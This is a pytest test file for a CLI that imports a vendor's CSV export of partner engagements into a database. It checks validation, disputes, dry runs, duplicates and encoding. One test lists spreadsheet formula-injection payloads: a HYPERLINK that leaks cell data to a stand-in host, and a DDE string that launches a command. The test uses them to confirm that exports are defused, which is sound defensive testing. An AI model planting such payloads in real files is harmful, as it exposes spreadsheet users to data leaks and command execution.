"""`vouch import engagements`: a vendor's PRM export, every row checked, all or nothing."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from subprocess import CompletedProcess

import pytest
from sqlalchemy import func, select

from api.cli import imports
from api.csv_safe import SafeWriter
from api.errors import DomainError
from api.models import AuditEntry, Customer, Engagement, Partner, Vendor, engagement_products
from api.services.apikeys import Caller
from api.services.engagement_agreement import dispute_engagement
from api.services.engagements import EngagementDraft, record_engagement
from api.services.import_csv import REQUIRED_COLUMNS
from api.services.imports import DISPUTED
from tests import factories
from tests.cli_runner import vouch
from tests.databases import Database

HEADER = (
    "partner_slug,customer_name,customer_domain,industry,status,products,budget,"
    "started_on,ended_on,selection_reason,customer_country,customer_size"
)
GOOD = f"""{HEADER}
alpha-health,Mercy Hospital,mercy.example,healthcare,completed,acme-crm,120000,2024-01-15,2024-06-30,peer_referral,US,1000-9999
bravo-retail,"Shop, Inc.",shop.example,retail,in_progress,,,,,,,
alpha-health,Grid Power,grid.example,energy,completed,,5000,2023-03-01,,vendor_recommended,DE,
"""  # noqa: E501


@pytest.fixture
def acme_id(db: Database) -> int:
    with db.session() as session, session.begin():
        world = factories.reference_data(session)
        factories.partner(session, world, "alpha-health")
        factories.partner(session, world, "bravo-retail")
        return world.vendors["acme"].id


def write(tmp_path: Path, text: str, name: str = "export.csv") -> str:
    path = tmp_path / name
    path.write_bytes(text.encode())
    return str(path)


def counts(db: Database) -> dict[str, int]:
    with db.session() as session:
        return {
            "engagements": session.scalar(select(func.count()).select_from(Engagement)) or 0,
            "customers": session.scalar(select(func.count()).select_from(Customer)) or 0,
            "products": session.scalar(select(func.count()).select_from(engagement_products)) or 0,
            "audit": session.scalar(select(func.count()).select_from(AuditEntry)) or 0,
        }


NOTHING = {"engagements": 0, "customers": 0, "products": 0, "audit": 0}


def test_a_good_file_imports_every_row_as_the_vendors_confirmed_engagements(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    excel = "\ufeff" + GOOD  # Excel's "CSV UTF-8" starts with a byte order mark

    result = vouch(
        "import", "engagements", write(tmp_path, excel), "--vendor", "acme",
        db=db, data_dir=tmp_path,
    )  # fmt: skip

    assert result.returncode == 0, result.stderr
    assert "imported 3 engagements" in result.stdout
    assert result.stderr == ""  # no progress bar for a small file
    with db.session() as session:
        engagements = session.scalars(select(Engagement).order_by(Engagement.id)).all()
        audit = session.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()
        shop = session.scalar(select(Customer).where(Customer.email_domain == "shop.example"))
        links = session.execute(select(engagement_products)).all()
        acme_slug = session.scalar(select(Vendor.slug).where(Vendor.id == acme_id))
    assert acme_slug == "acme"
    assert len(engagements) == 3
    # An operator's import counts as confirmed by both sides, as an admin's record does.
    assert all(e.confirmed and e.vendor_id == acme_id for e in engagements)
    assert {(e.recorded_by, e.disputed_at) for e in engagements} == {("import", None)}
    first = engagements[0]
    assert (first.budget, first.started_on, first.ended_on, first.selection_reason) == (
        120000,
        date(2024, 1, 15),
        date(2024, 6, 30),
        "peer_referral",
    )
    assert [(e.status, e.budget, e.started_on) for e in engagements[1:]] == [
        ("in_progress", None, None),
        ("completed", 5000, date(2023, 3, 1)),
    ]
    assert [(row.engagement_id, row.product_id) for row in links] == [
        (first.id, links[0].product_id)
    ]
    assert shop is not None
    assert (shop.name, shop.size_band, shop.country) == ("Shop, Inc.", None, None)
    assert [(a.action, a.actor, a.entity_id) for a in audit] == [
        ("engagement.record", "cli:import", str(e.id)) for e in engagements
    ]


def test_one_bad_row_among_good_ones_imports_nothing_and_names_each_problem(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    text = (
        "partner_slug,customer_name,customer_domain,industry,status,budget,started_on,products\n"
        "alpha-health,Mercy Hospital,mercy.example,healthcare,completed,100,2024-01-01,acme-crm\n"
        "bravo-retail,Shop,shop.example,spaceships,completed,abc,2024-13-01,\n"
        'alpha-health,"Grid\nPower",grid.example,energy,completed,,,\n'
        "nobody,Acme Corp,corp.example,retail,done,,,globex-erp\n"
    )

    result = vouch(
        "import", "engagements", write(tmp_path, text), "--vendor", "acme",
        db=db, data_dir=tmp_path,
    )  # fmt: skip

    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    problems = [line for line in result.stderr.splitlines() if line.startswith("line ")]
    assert problems == [
        "line 3: industry: no industry with slug 'spaceships'",
        "line 3: budget: budget 'abc' is not a whole number",
        "line 3: started_on: started_on '2024-13-01' is not a date in the form YYYY-MM-DD",
        # the quoted name of the row before spans lines 4 and 5
        "line 6: partner_slug: no partner with slug 'nobody'",
        "line 6: status: status must be one of proposed, in_progress, completed, cancelled",
        "line 6: products: product 'globex-erp' is not one of Acme Cloud's",
    ]
    assert "nothing imported" in result.stderr
    assert "imported 4" not in result.stdout
    assert counts(db) == NOTHING


def test_a_row_whose_engagement_the_partner_disputed_is_refused(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    # given: acme recorded GOOD's first engagement through the API, and alpha-health
    # disputed it
    with db.session() as session, session.begin():
        alpha_id = session.scalar(select(Partner.id).where(Partner.slug == "alpha-health"))
        assert alpha_id is not None
        draft = EngagementDraft(
            partner_slug="alpha-health",
            customer_name="Mercy Hospital",
            customer_domain="mercy.example",
            industry="healthcare",
            status="completed",
            started_on=date(2024, 1, 15),
        )
        vendor = Caller(role="vendor", vendor_id=acme_id, vendor_slug="acme")
        engagement = record_engagement(session=session, caller=vendor, draft=draft)
        partner = Caller(role="partner", partner_id=alpha_id, partner_slug="alpha-health")
        dispute_engagement(
            session=session, caller=partner, engagement_id=engagement.id, reason="Not ours."
        )
    before = counts(db)

    # when: the operator imports acme's export, which holds it
    result = vouch(
        "import", "engagements", write(tmp_path, GOOD), "--vendor", "acme",
        db=db, data_dir=tmp_path,
    )  # fmt: skip

    # then: the import does not overrule the dispute unseen: nothing is imported
    assert result.returncode == 1
    problems = [line for line in result.stderr.splitlines() if line.startswith("line ")]
    assert problems == [f"line 2: {DISPUTED}"]
    assert counts(db) == before
    with db.session() as session:
        assert session.scalars(select(Engagement.confirmed)).all() == [False]


def test_a_dry_run_of_a_good_file_counts_the_rows_and_writes_nothing(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    windows = GOOD.replace("\n", "\r\n")

    result = vouch(
        "import", "engagements", write(tmp_path, windows), "--vendor", "acme", "--dry-run",
        db=db, data_dir=tmp_path,
    )  # fmt: skip

    assert result.returncode == 0, result.stderr
    assert "3 rows OK" in result.stdout
    assert counts(db) == NOTHING


def import_file(db: Database, tmp_path: Path, text: str, *options: str) -> CompletedProcess[str]:
    path = write(tmp_path, text, name=f"export-{len(list(tmp_path.glob('*.csv')))}.csv")
    return vouch(
        "import", "engagements", path, "--vendor", "acme", *options, db=db, data_dir=tmp_path
    )


def test_importing_the_same_file_again_adds_nothing(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    first = import_file(db, tmp_path, GOOD)
    after_first = counts(db)

    again = import_file(db, tmp_path, GOOD)
    dry_run = import_file(db, tmp_path, GOOD, "--dry-run")

    assert first.returncode == again.returncode == dry_run.returncode == 0
    assert first.stdout == "imported 3 engagements for vendor acme: 3 new, 0 already present\n"
    assert again.stdout == "imported 0 engagements for vendor acme: 0 new, 3 already present\n"
    assert dry_run.stdout == "3 rows OK: 0 new, 3 already present; dry run, nothing imported\n"
    assert after_first == {"engagements": 3, "customers": 3, "products": 1, "audit": 3}
    assert counts(db) == after_first


def test_a_partly_overlapping_file_imports_only_its_new_rows(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    import_file(db, tmp_path, GOOD)
    mercy, _shop, grid = GOOD.splitlines()[1:]
    later_export = "\n".join(
        [
            HEADER,
            mercy.replace(",120000,", ",130000,"),  # the same engagement, a new budget
            grid,
            # Mercy again, from a later start: another engagement
            "alpha-health,Mercy Hospital,mercy.example,healthcare,proposed,,,2025-02-01,,,,",
            "",
        ]
    )

    dry_run = import_file(db, tmp_path, later_export, "--dry-run")
    result = import_file(db, tmp_path, later_export)

    assert dry_run.stdout == "3 rows OK: 1 new, 2 already present; dry run, nothing imported\n"
    assert result.returncode == 0, result.stderr
    assert result.stdout == "imported 1 engagement for vendor acme: 1 new, 2 already present\n"
    with db.session() as session:
        query = select(Engagement.started_on, Engagement.budget, Engagement.status)
        rows = session.execute(query.order_by(Engagement.id)).all()
    assert [tuple(row) for row in rows] == [
        (date(2024, 1, 15), 120000, "completed"),  # left as it was
        (None, None, "in_progress"),
        (date(2023, 3, 1), 5000, "completed"),
        (date(2025, 2, 1), None, "proposed"),
    ]
    assert counts(db)["audit"] == 4


def test_a_nul_character_is_refused_with_its_line_and_column(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    text = (
        f"{HEADER}\n"
        "alpha-health,Mercy Hospital,mercy.example,healthcare,completed,,,,,,,\n"
        "bravo-retail,Shop\x00 Inc,shop.example,retail,in_progress,,,,,,,\n"
        'alpha-health,"Grid\nPower",grid.example,energy,completed,,,,,peer_\x00referral,,\n'
    )

    result = import_file(db, tmp_path, text)

    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert [line for line in result.stderr.splitlines() if line.startswith("line ")] == [
        "line 3: customer_name: customer_name holds a NUL character (0x00); remove it",
        "line 4: selection_reason: selection_reason holds a NUL character (0x00); remove it",
    ]
    assert "nothing imported" in result.stderr
    assert counts(db) == NOTHING


@pytest.mark.parametrize(
    "text", [f"{HEADER}\n", f"{HEADER}\r\n\r\n,,,,,,,,,,,\n"], ids=["header", "blanks"]
)
@pytest.mark.parametrize("options", [(), ("--dry-run",)], ids=["import", "dry-run"])
def test_a_file_with_a_header_and_no_rows_says_there_is_nothing_to_import(
    db: Database, acme_id: int, tmp_path: Path, text: str, options: tuple[str, ...]
) -> None:
    result = import_file(db, tmp_path, text, *options)

    assert result.returncode == 1
    assert result.stdout == ""
    assert result.stderr.endswith(": nothing to import: the file has a header and no rows\n")
    assert counts(db) == NOTHING


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1 Mercy Hospital",
    "-Grid Power",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_text_that_looks_like_a_formula_is_stored_as_given(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    export = io.StringIO()
    plain = csv.writer(export)  # as the vendor's PRM writes it: no defusing
    plain.writerow(REQUIRED_COLUMNS)
    for n, name in enumerate(FORMULAS):
        plain.writerow(["alpha-health", name, f"c{n}.example", "healthcare", "completed"])

    result = import_file(db, tmp_path, export.getvalue())

    assert result.returncode == 0, result.stderr
    with db.session() as session:
        names = session.scalars(select(Customer.name).order_by(Customer.email_domain)).all()
    assert names == FORMULAS
    exported = io.StringIO()
    SafeWriter(exported).writerows([name] for name in names)
    assert [row[0] for row in csv.reader(io.StringIO(exported.getvalue()))] == [
        f"'{name}" for name in FORMULAS
    ]


def test_a_missing_or_unknown_header_column_is_named_and_nothing_is_imported(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    text = (
        "partner_slug,customer_name,customer_domain,status,vendor\n"
        "alpha-health,Mercy Hospital,mercy.example,completed,acme\n"
    )

    result = vouch(
        "import", "engagements", write(tmp_path, text), "--vendor", "acme",
        db=db, data_dir=tmp_path,
    )  # fmt: skip

    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "missing required column 'industry'" in result.stderr
    assert "unknown column 'vendor'" in result.stderr
    assert counts(db) == NOTHING


def test_an_unknown_vendor_is_named(db: Database, acme_id: int, tmp_path: Path) -> None:
    result = vouch(
        "import", "engagements", write(tmp_path, GOOD), "--vendor", "initech",
        db=db, data_dir=tmp_path,
    )  # fmt: skip

    assert result.returncode == 1
    assert "no vendor with slug 'initech'" in result.stderr
    assert counts(db) == NOTHING


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "no such file"),
        (f"{HEADER}\n".encode() + b"\xe9t\xe9\n", "not UTF-8 text (byte 0xe9 on line 2)"),
    ],
    ids=["missing", "latin-1"],
)
def test_a_file_that_cannot_be_read_is_a_clear_message(
    db: Database, acme_id: int, tmp_path: Path, content: bytes | None, message: str
) -> None:
    path = tmp_path / "export.csv"
    if content is not None:
        path.write_bytes(content)

    result = vouch("import", "engagements", str(path), "--vendor", "acme", db=db, data_dir=tmp_path)

    assert result.returncode == 1
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert counts(db) == NOTHING


def test_the_progress_bar_shows_only_for_large_files(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TTY_INTERACTIVE", "1")

    with imports._progress(imports.PROGRESS_FROM_BYTES, "checking small.csv") as advance:
        advance(imports.PROGRESS_FROM_BYTES)
    small = capsys.readouterr()
    with imports._progress(imports.PROGRESS_FROM_BYTES + 1, "checking large.csv") as advance:
        advance(imports.PROGRESS_FROM_BYTES + 1)
    large = capsys.readouterr()

    assert (small.out, small.err) == ("", "")
    assert large.out == ""
    assert "checking large.csv" in large.err


def test_the_import_and_the_api_share_one_budget_limit(
    db: Database, acme_id: int, tmp_path: Path
) -> None:
    # given: a row at the limit and one a unit above it (the API's limit, 2,000,000,000)
    text = (
        "partner_slug,customer_name,customer_domain,industry,status,budget\n"
        "alpha-health,Big Co,big.example,healthcare,completed,2000000000\n"
        "alpha-health,Bigger Co,bigger.example,healthcare,completed,2000000001\n"
    )

    # when: the vendor imports them
    result = import_file(db, tmp_path, text)

    # then: the row above is named with the same limit the API gives; nothing is imported
    assert result.returncode == 1
    problems = [line for line in result.stderr.splitlines() if line.startswith("line ")]
    assert problems == ["line 3: budget: budget 2000000001 is above the limit 2,000,000,000"]
    assert counts(db) == NOTHING
    draft = EngagementDraft(
        partner_slug="alpha-health",
        customer_name="Bigger Co",
        customer_domain="bigger.example",
        industry="healthcare",
        status="completed",
        budget=2_000_000_001,
    )
    with db.session() as session, pytest.raises(DomainError, match="2,000,000,000"):
        record_engagement(session=session, caller=Caller(role="admin"), draft=draft)
